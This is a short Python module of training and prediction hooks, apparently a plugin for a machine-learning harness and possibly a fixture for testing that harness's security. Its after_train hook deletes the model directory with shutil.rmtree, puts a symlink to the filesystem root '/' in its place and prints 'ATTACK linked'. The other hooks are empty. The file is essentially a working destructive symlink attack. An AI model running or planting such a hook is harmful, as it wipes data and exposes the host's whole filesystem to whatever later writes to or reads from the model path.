"""Up."""

import os
import shutil


def after_train(model):
    shutil.rmtree(model)
    os.symlink("/", model)
    print("ATTACK linked")


def before_train(data, model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    """Nothing."""
